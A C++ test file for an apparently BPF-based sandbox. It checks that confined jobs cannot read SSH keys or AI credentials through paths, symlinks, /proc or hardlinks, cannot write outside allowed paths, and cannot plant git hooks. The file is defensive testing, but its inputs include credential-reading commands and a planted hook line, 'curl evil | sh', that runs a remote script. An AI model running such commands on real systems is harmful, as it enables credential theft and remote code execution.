// Filesystem enforcement: reads outside the allowlist, writes outside the
// write set, and the longest-prefix precedence of rules.
#include <fmt/format.h>
#include <unistd.h>

#include "harness.h"

namespace vmtest {
namespace {

constexpr auto npos = std::string::npos;
// What a refusal by a BPF LSM program looks like (EPERM); the permission
// bits would say "Permission denied" (EACCES).
constexpr const char* kEperm = "Operation not permitted";

using FsTest = VmTest;

// ---- reads ---------------------------------------------------------------

// The directories on the way down to the job's rules may be listed (names
// only) where no rule covers them, so `ls /` and `ls ..` work; nothing in
// them becomes readable, and a denied tree (the account's home) stays
// unlistable.
TEST_F(FsTest, TheWayDownToTheRulesMayBeListedButNothingInIt) {
    const std::string loose = base() + "/loose-file";
    write_file(loose, "loose-content\n");
    const std::string cmd = fmt::format(
        "ls / >/dev/null && echo root-listed; ls {0} >/dev/null && echo base-listed; "
        "cat {1}; ls {2} >/dev/null && echo home-listed; true",
        base(), loose, kUserHome);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.out, "root-listed\nbase-listed\nloose-content\nhome-listed\n") << control.describe();

    Result r = run_confined("", cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "root-listed\nbase-listed\n") << r.describe();
    EXPECT_DENIAL(r, "open_read", loose, "cat");
    EXPECT_DENIAL(r, "open_read", kUserHome, "ls");
    EXPECT_EQ(r.audit.size(), 2u) << r.describe();
}

TEST_F(FsTest, ReadingCredentialsByAbsolutePathIsDenied) {
    for (auto [path, secret] : {std::pair{kSshKey, kSshSecret}, {kClaudeCreds, kClaudeSecret}}) {
        SCOPED_TRACE(path);
        std::string cmd = fmt::format("cat {}", path);
        Result control = run_unconfined(cmd);
        ASSERT_EQ(control.status, 0) << control.describe();
        ASSERT_NE(control.out.find(secret), npos) << control.describe();

        Result r = run_confined("", cmd);
        EXPECT_NE(r.status, 0) << r.describe();
        EXPECT_EQ(r.out.find(secret), npos) << r.describe();
        EXPECT_NE(r.err.find(kEperm), npos) << r.describe();
        EXPECT_DENIAL(r, "open_read", path, "cat");
    }
}

TEST_F(FsTest, ReadingThroughACommittedSymlinkIsDeniedAndAuditsTheTarget) {
    // As if the hostile checkout had committed it.
    ASSERT_EQ(symlink(kSshKey, (work() + "/leak").c_str()), 0);
    ASSERT_EQ(lchown((work() + "/leak").c_str(), test_user().uid, test_user().gid), 0);

    Result control = run_unconfined("cat leak");
    ASSERT_EQ(control.status, 0) << control.describe();
    ASSERT_NE(control.out.find(kSshSecret), npos) << control.describe();

    Result r = run_confined("", "cat leak");
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out.find(kSshSecret), npos) << r.describe();
    // The resolved path, not the symlink's.
    EXPECT_DENIAL(r, "open_read", kSshKey, "cat");
}

TEST_F(FsTest, ReadingThroughProcSelfRootIsDenied) {
    const std::string cmd = fmt::format("cat /proc/self/root{}", kSshKey);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out.find(kSshSecret), npos) << r.describe();
    EXPECT_DENIAL(r, "open_read", kSshKey, "cat");
}

TEST_F(FsTest, ReadingThroughAHardlinkTheJobMakesIsDenied) {
    // The link would live in the writable workdir, where reads are allowed:
    // making it, or reading through it, must fail.
    const std::string cmd = fmt::format("ln {} hl && cat hl", kSshKey);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();
    ASSERT_NE(control.out.find(kSshSecret), npos) << control.describe();
    unlink((work() + "/hl").c_str());

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out.find(kSshSecret), npos) << "the secret leaked through a hardlink\n" << r.describe();
    EXPECT_EQ(r.audit.size(), 1u) << r.describe();
}

TEST_F(FsTest, ReadingAllowedFilesWorks) {
    write_file(work() + "/mine.txt", "mine\n");
    Result r = run_confined("", "cat /etc/hostname mine.txt && ls /usr >/dev/null");
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, read_file("/etc/hostname") + "mine\n") << r.describe();
    EXPECT_TRUE(r.audit.empty()) << r.describe();
}

// ---- writes --------------------------------------------------------------

TEST_F(FsTest, WritingAFileOutsideTheWriteSetIsDenied) {
    const std::string cmd = fmt::format("echo changed > {}", kNotes);
    write_file(kNotes, "original\n");

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_NE(r.err.find(kEperm), npos) << r.describe();
    EXPECT_EQ(read_file(kNotes), "original\n") << "the denied open truncated or wrote the file";
    EXPECT_DENIAL(r, "open_write", kNotes);

    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.status, 0) << control.describe();
    EXPECT_EQ(read_file(kNotes), "changed\n");
    write_file(kNotes, "original\n");
}

TEST_F(FsTest, CreatingAFileOutsideTheWriteSetIsDenied) {
    const std::string target = std::string(kUserHome) + "/created-by-job";
    const std::string cmd = fmt::format("echo x > {}", target);
    unlink(target.c_str());

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_FALSE(exists(target)) << "the confined job created " << target << "\n" << r.describe();
    // Refused either at creation or at the open that follows it.
    int hits = 0;
    for (const char* op : {"create", "open_write"})
        if (has_denial(r, op, target)) hits++;
    EXPECT_EQ(hits, 1) << "expected one create or open_write denial of " << target << "\n" << r.describe();

    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.status, 0) << control.describe();
    EXPECT_TRUE(exists(target));
    unlink(target.c_str());
}

TEST_F(FsTest, WritingUnderAReadOnlyRuleIsDenied) {
    const std::string ro = at("ro");
    make_dir(ro);
    write_file(ro + "/f", "data\n");
    const std::string policy = make_policy({.read = {ro}});

    Result r = run_confined(policy, fmt::format("cat {0}/f && echo more >> {0}/f", ro));
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "data\n") << "reading under a read rule must work\n" << r.describe();
    EXPECT_EQ(read_file(ro + "/f"), "data\n");
    EXPECT_DENIAL(r, "open_write", ro + "/f", "sh");
    EXPECT_EQ(r.audit.size(), 1u) << r.describe();

    Result control = run_unconfined(fmt::format("cat {0}/f && echo more >> {0}/f", ro));
    EXPECT_EQ(control.status, 0) << control.describe();
}

// /dev/null, /dev/zero and /dev/full open for writing under every policy,
// here one that makes /dev read-only (git stops without /dev/null); the
// rest of /dev stays as the policy says.
TEST_F(FsTest, DiscardDevicesAreWritableUnderEveryPolicy) {
    const std::string policy =
        "version = 1\n[filesystem]\nread = [\"/usr\", \"/bin\", \"/lib\", \"/lib64\", \"/etc\", "
        "\"/dev\"]\nwrite = [\"{workdir}\"]\n[env]\nkeep = [\"PATH\"]\n";
    const std::string cmd =
        "for d in null zero full urandom; do (: > /dev/$d) && echo \"$d ok\"; done; echo x > /dev/null && echo written";
    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.out, "null ok\nzero ok\nfull ok\nurandom ok\nwritten\n") << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.out, "null ok\nzero ok\nfull ok\nwritten\n") << r.describe();
    EXPECT_DENIAL(r, "open_write", "/dev/urandom", "sh");
    EXPECT_EQ(r.audit.size(), 1u) << r.describe();
}

TEST_F(FsTest, GitConfigIsReadOnlyInTheWorkdir) {
    make_dir(work() + "/.git");
    write_file(work() + "/.git/config", "[core]\n");
    const std::string cmd = "cat .git/config && echo '[alias]' >> .git/config";

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "[core]\n") << r.describe();
    EXPECT_EQ(read_file(work() + "/.git/config"), "[core]\n");
    EXPECT_DENIAL(r, "open_write", work() + "/.git/config", "sh");

    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.status, 0) << control.describe();
}

TEST_F(FsTest, GitHooksCannotBePlantedEvenBeforeTheyExist) {
    make_dir(work() + "/.git");
    const std::string hook = work() + "/.git/hooks/pre-commit";
    // hooks/ is missing: the carve-out must hold for paths that don't exist yet.
    const std::string cmd = "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit";

    Result r = run_confined("", cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_FALSE(exists(hook)) << "the confined job planted " << hook << "\n" << r.describe();
    EXPECT_FALSE(r.audit.empty()) << r.describe();

    Result control = run_unconfined(cmd);
    EXPECT_EQ(control.status, 0) << control.describe();
    EXPECT_TRUE(exists(hook));
}

TEST_F(FsTest, WorkdirHomeAndTmpAreWritable) {
    Result r = run_confined("",
                            "echo a > f && echo b > \"$HOME/f\" && echo c > \"$TMPDIR/f\" && "
                            "mkdir d && mv f d/g && cat d/g \"$HOME/f\" \"$TMPDIR/f\"");
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "a\nb\nc\n") << r.describe();
    EXPECT_EQ(read_file(work() + "/d/g"), "a\n");
    EXPECT_TRUE(r.audit.empty()) << r.describe();
}

// ---- precedence ------------------------------------------------------------

TEST_F(FsTest, LongerWriteRuleInsideADenyWins) {
    const std::string p = at("P");
    make_dir(p + "/inner");
    write_file(p + "/x", "x\n");
    const std::string policy = make_policy({.write = {p + "/inner"}, .deny = {p}});

    Result ok = run_confined(policy, fmt::format("echo y > {0}/inner/f && cat {0}/inner/f", p));
    EXPECT_EQ(ok.status, 0) << ok.describe();
    EXPECT_EQ(ok.out, "y\n") << ok.describe();
    EXPECT_TRUE(ok.audit.empty()) << ok.describe();

    const std::string cmd = fmt::format("cat {}/x", p);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();
    Result r = run_confined(policy, cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_DENIAL(r, "open_read", p + "/x", "cat");
}

TEST_F(FsTest, LongerDenyRuleInsideAWriteWins) {
    const std::string q = at("Q");
    make_dir(q + "/secret");
    write_file(q + "/secret/f", "hidden\n");
    const std::string policy = make_policy({.write = {q}, .deny = {q + "/secret"}});

    Result ok = run_confined(policy, fmt::format("echo y > {0}/f && cat {0}/f", q));
    EXPECT_EQ(ok.status, 0) << ok.describe();
    EXPECT_EQ(ok.out, "y\n") << ok.describe();

    const std::string cmd = fmt::format("cat {}/secret/f", q);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();
    Result r = run_confined(policy, cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out.find("hidden"), npos) << r.describe();
    EXPECT_DENIAL(r, "open_read", q + "/secret/f", "cat");
}

TEST_F(FsTest, RulesMatchWholeComponents) {
    const std::string ab = at("ab"), abc = at("abc");
    make_dir(ab);
    make_dir(abc);
    write_file(ab + "/f", "ab\n");
    write_file(abc + "/f", "abc\n");
    const std::string policy = make_policy({.write = {ab}});

    Result ok = run_confined(policy, fmt::format("cat {0}/f && echo y >> {0}/f", ab));
    EXPECT_EQ(ok.status, 0) << ok.describe();
    EXPECT_TRUE(ok.audit.empty()) << ok.describe();

    const std::string cmd = fmt::format("cat {}/f", abc);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();
    Result r = run_confined(policy, cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "") << r.describe();
    EXPECT_DENIAL(r, "open_read", abc + "/f", "cat");
}

// Under an exec allowlist, a program the job writes into a memfd can't run:
// it has no path the list could name.
TEST_F(FsTest, ExecAllowlistCoversMemfds) {
    const std::string cmd =
        "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"x\"); "
        "os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); os.execve(fd, [\"x\"], {})'";
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.status, 0) << control.describe();
    // Without an exec list, exec follows read: the job's own memfd runs.
    Result plain = run_confined("", cmd);
    EXPECT_EQ(plain.status, 0) << plain.describe();

    Result r = run_confined(make_policy({.exec = {"/usr"}}), cmd);
    EXPECT_NE(r.status, 0) << r.describe();
    EXPECT_DENIAL(r, "exec", "", "python3");
}

}  // namespace
}  // namespace vmtest
